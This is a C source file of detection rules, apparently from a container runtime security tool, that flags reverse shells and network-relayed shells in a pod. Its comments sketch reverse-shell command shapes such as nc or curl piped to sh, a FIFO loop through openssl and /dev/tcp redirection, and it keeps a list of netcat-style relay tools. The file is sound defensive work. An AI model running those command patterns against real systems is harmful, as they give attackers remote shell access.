/* rows_shell.c - who commands the shells of a pod. */
#include <string.h>

#include "detect/rows.h"

/* How long a shell and who relays the network to it may begin apart. */
#define RELAY_NS (600 * BH_S)

/* What passes on what comes from the network, and does nothing else. */
static const char *const pipes[] = {"nc",     "ncat", "netcat", "nc.openbsd", "nc.traditional",
				    "telnet", NULL};

bool bh_row_server_shell(struct bh_judge *j)
{
	const char *tool = bh_act_tool(&j->a->process);

	if (!bh_tool_is_shell(tool) || (j->a->process.flags & BH_PROC_FROM_OUTSIDE))
		return false;
	if (!j->proc || !(j->proc->line & BH_LINE_SERVER_CHILD) || !*j->a->parent.path ||
	    bh_tool_is_shell(bh_act_tool(&j->a->parent)))
		return false;
	if (j->is_starting)
		j->severity = BH_SEVERITY_LOW;
	bh_judge_key(j, "%s > %s", j->a->parent.path, tool);
	bh_judge_say(j, "%s, which serves the network, started the shell %s", j->a->parent.path,
		     tool);
	return true;
}

static bool has_argument(const struct bh_act_process *p, const char *text)
{
	const char *arg;
	size_t i;

	for (i = 1; i < 8 && (arg = bh_act_arg(p, i)); i++) {
		if (!strcmp(arg, text))
			return true;
	}
	return false;
}

/* A shell that takes its lines from a terminal, pipe or socket that somebody else holds. */
static bool is_bare_shell(const struct bh_act_process *p)
{
	return bh_tool_is_shell(bh_act_tool(p)) && !(p->flags & BH_PROC_FROM_OUTSIDE) &&
	       bh_act_reads_input(p) && p->stdio[0] != BH_STDIO_FILE &&
	       p->stdio[0] != BH_STDIO_INET;
}

/* `nc -z`, `nc -vz`: nothing comes from there. */
static bool asks_whether_open(const struct bh_act_process *p)
{
	const char *arg;
	size_t i;

	for (i = 1; i < 6 && (arg = bh_act_arg(p, i)); i++) {
		if (arg[0] == '-' && arg[1] != '-' && strchr(arg, 'z'))
			return true;
	}
	return false;
}

/* `nc HOST PORT | sh`, `curl URL | sh`: two programs that one shell started within seconds, in
 * whatever order, and through whatever wraps programs. */
static bool is_fed(struct bh_judge *j)
{
	static const char *const pages[] = {"curl", "wget", NULL};
	const struct bh_act_process *p = &j->a->process;
	const char *tool = bh_act_tool(p);
	bool is_shell = is_bare_shell(p) && p->stdio[0] == BH_STDIO_PIPE;
	bool is_page = bh_name_in(tool, pages);
	bool is_pipe = (bh_name_in(tool, pipes) && !asks_whether_open(p)) || !strcmp(tool, "socat");
	struct bh_piped *mine = is_shell ? &j->pod->shell : &j->pod->feeder;
	const struct bh_piped *other = is_shell ? &j->pod->feeder : &j->pod->shell;
	uint64_t starter = j->proc ? j->proc->starter : p->parent_exec_id, apart_ns;

	if (j->proc)
		j->proc->is_probe = asks_whether_open(p) && bh_name_in(tool, pipes);
	if (!starter || !p->args_len || (!is_shell && !is_pipe && !is_page))
		return false;
	*mine = (struct bh_piped){starter, j->a->ts_ns, is_page};
	apart_ns = mine->ts_ns > other->ts_ns ? mine->ts_ns - other->ts_ns
					      : other->ts_ns - mine->ts_ns;
	/* scripts fetch pages, too */
	return other->parent_exec_id == mine->parent_exec_id &&
	       apart_ns < (j->pod->feeder.is_page ? 1 : 5) * BH_S;
}

/* `sh < /tmp/f | openssl ... > /tmp/f` */
static bool has_circle(const struct bh_act_process *p)
{
	return p->stdio[0] == BH_STDIO_FIFO || p->stdio[1] == BH_STDIO_FIFO;
}

static uint32_t line_of(struct bh_judge *j, uint64_t exec_id)
{
	const struct bh_proc *p = bh_proc_find(j->d, exec_id);

	return p ? p->line : 0;
}

/* `exec 0<>/dev/tcp/HOST/PORT >&0`: no shell was started so, but what it starts shows it. Wherever
 * the other end is: who relays it may be in the pod. `perl -e 'system $_ while <>'` with such input
 * is no better. */
static bool is_spoken_to(struct bh_judge *j)
{
	const struct bh_act_process *p = &j->a->process;
	const char *parent = bh_act_tool(&j->a->parent);

	if (p->stdio[0] != BH_STDIO_INET || p->stdio[1] != BH_STDIO_INET ||
	    (p->flags & BH_PROC_FROM_OUTSIDE) || !*j->a->parent.path ||
	    (j->proc && (j->proc->inherited & BH_LINE_IN_SHELL)))
		return false;
	return bh_tool_is_shell(parent) ||
	       ((p->flags & BH_PROC_CONNECTED) && (line_of(j, p->parent_exec_id) & BH_LINE_INLINE));
}

static bool is_near(const struct bh_judge *j, uint64_t ts_ns)
{
	uint64_t now = j->a->ts_ns;

	return ts_ns && (now > ts_ns ? now - ts_ns : ts_ns - now) < RELAY_NS;
}

/* A shell whose other end some other process of the pod has: whether it passes on what the network
 * says is seen by who connects. What an operator started is his. */
static bool waits_for_relay(struct bh_judge *j)
{
	const struct bh_act_process *p = &j->a->process;
	uint32_t line = line_of(j, p->parent_exec_id);

	if (!is_bare_shell(p) || (j->proc && (j->proc->inherited & BH_LINE_ENTERED)))
		return false;
	return p->stdio[0] != BH_STDIO_PIPE || (line & (BH_LINE_INLINE | BH_LINE_FOREIGN));
}

/* Who connects has no other purpose than to pass on, or none that anybody knows. */
static bool is_relay(const struct bh_judge *j)
{
	static const char *const others[] = {"socat", "openssl", NULL};
	const char *tool = bh_act_tool(&j->a->process);

	if (j->proc && j->proc->is_probe)
		return false;
	return bh_name_in(tool, pipes) || bh_name_in(tool, others) ||
	       (j->proc && (j->proc->line & (BH_LINE_INLINE | BH_LINE_FOREIGN)) &&
		!(j->proc->line & BH_LINE_ENTERED));
}

static bool raise_relay(struct bh_judge *j, const char *what)
{
	j->severity = BH_SEVERITY_MEDIUM;
	bh_judge_weigh(j);
	bh_judge_key(j, "relay");
	bh_judge_say(j, "%s %s", j->a->process.path, what);
	return true;
}

static bool on_connect(struct bh_judge *j)
{
	const struct bh_act_process *p = &j->a->process;

	if (bh_tool_is_shell(bh_act_tool(p))) {
		j->severity = BH_SEVERITY_MEDIUM;
		bh_judge_weigh(j);
		bh_judge_key(j, "connect %s", p->path);
		bh_judge_say(j, "the shell %s opened a network connection itself", p->path);
		return true;
	}
	if (!is_relay(j))
		return false;
	j->pod->relay_ns = j->a->ts_ns;
	return is_near(j, j->pod->bare_ns) &&
	       raise_relay(j, "connected while a shell waits for what somebody passes on to it");
}

/* A shell that nobody gave a command, started by what had connected: it passes on what comes. Or by
 * what can do nothing else. */
static bool is_relayed(const struct bh_judge *j)
{
	static const char *const socat[] = {"socat", NULL};
	const struct bh_act_process *p = &j->a->process;
	const char *parent = bh_act_tool(&j->a->parent);

	if ((p->flags & BH_PROC_FROM_OUTSIDE) || !*j->a->parent.path ||
	    !bh_tool_is_shell(bh_act_tool(p)))
		return false;
	if (bh_name_in(parent, pipes))
		return true;
	return is_bare_shell(p) &&
	       (bh_name_in(parent, socat) || (p->flags & BH_PROC_CONNECTED) ||
		(j->proc && (j->proc->line & BH_LINE_RELAYED) && p->stdio[0] != BH_STDIO_PIPE));
}

static bool is_part_of_relay(struct bh_judge *j)
{
	const struct bh_act_process *p = &j->a->process;

	if (is_relayed(j)) {
		j->severity = BH_SEVERITY_MEDIUM;
		bh_judge_weigh(j);
		bh_judge_key(j, "relay %s", p->path);
		bh_judge_say(j, "%s was started without a command by %s, which is connected",
			     p->path, j->a->parent.path);
		return true;
	}
	if (is_fed(j) || (is_bare_shell(p) && has_circle(p))) {
		j->severity = BH_SEVERITY_MEDIUM;
		bh_judge_weigh(j);
		bh_judge_key(j, "circle");
		bh_judge_say(j, "%s is part of a pipe between a shell and the network", p->path);
		return true;
	}
	if (!waits_for_relay(j))
		return false;
	j->pod->bare_ns = j->a->ts_ns;
	return is_near(j, j->pod->relay_ns) &&
	       raise_relay(j,
			   "was started without a command, where something passes on the network");
}

bool bh_row_socket_shell(struct bh_judge *j)
{
	const struct bh_act_process *p = &j->a->process;

	if (j->a->kind == BH_ACT_CONNECT)
		return on_connect(j);
	if (bh_act_is_net_shell(j->a)) {
		bh_judge_key(j, "stdio %s", p->path);
		bh_judge_say(j, "%s was started with the network as its input and output", p->path);
		return true;
	}
	if (is_spoken_to(j)) {
		j->severity = BH_SEVERITY_MEDIUM;
		bh_judge_weigh(j);
		bh_judge_key(j, "through %s", j->a->parent.path);
		bh_judge_say(j, "%s, started by %s, has the network as its input and output",
			     p->path, j->a->parent.path);
		return true;
	}
	if (is_part_of_relay(j))
		return true;
	if (!bh_tool_is_shell(bh_act_tool(p)) || p->stdio[0] != BH_STDIO_PIPE ||
	    !has_argument(p, "-i") || (p->flags & BH_PROC_FROM_OUTSIDE))
		return false;
	j->severity = BH_SEVERITY_MEDIUM;
	bh_judge_key(j, "pipe %s", p->path);
	bh_judge_say(j, "the shell %s was asked to be interactive, but reads a pipe", p->path);
	return true;
}

bool bh_row_interactive(struct bh_judge *j)
{
	bool is_below = j->proc && (j->proc->line & BH_LINE_INTERACTIVE) &&
			!(j->proc->inherited & BH_LINE_INTERACTIVE);

	if (!is_below && !bh_act_is_interactive(j->a))
		return false;
	bh_judge_key(j, "%s", j->a->process.path);
	bh_judge_say(j, "somebody entered the pod from outside with %s", j->a->process.path);
	return true;
}
